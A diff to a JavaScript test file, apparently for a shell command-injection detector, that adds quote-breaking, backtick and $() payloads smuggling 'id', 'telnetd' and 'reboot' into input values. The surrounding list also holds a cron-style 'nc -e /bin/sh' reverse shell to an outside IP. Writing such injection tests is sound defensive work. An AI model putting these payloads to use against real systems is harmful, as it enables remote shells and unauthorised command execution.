@@ -38,6 +38,12 @@ describe('a command in command position', () => {
 
   test.each([
     'Ann Smith|cat notes.txt',
+    "x';id;echo 'x",
+    "x'| id | echo 'x",
+    'x"&id&echo "x',
+    '`id;`',
+    'x`telnetd; `x',
+    '$(reboot;)',
     '-c 5 127.0.0.1; id',
     ';who``ami',
     '* * * * * root nc -e /bin/sh 203.0.113.9 443',
